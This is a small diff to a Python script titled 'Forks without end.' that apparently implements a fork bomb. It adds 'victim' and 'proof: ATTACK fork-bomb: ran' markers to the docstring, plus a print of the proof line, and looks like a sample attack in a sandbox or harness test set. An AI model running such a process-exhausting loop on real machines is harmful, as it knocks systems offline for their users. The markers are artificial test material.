@@ -1,4 +1,8 @@
-"""Forks without end."""
+"""Forks without end.
+
+victim: next
+proof: ATTACK fork-bomb: ran
+"""
 
 import os
 
@@ -14,3 +18,4 @@ try:
         children += 1
 except OSError:
     pass
+print("ATTACK fork-bomb: ran", flush=True)
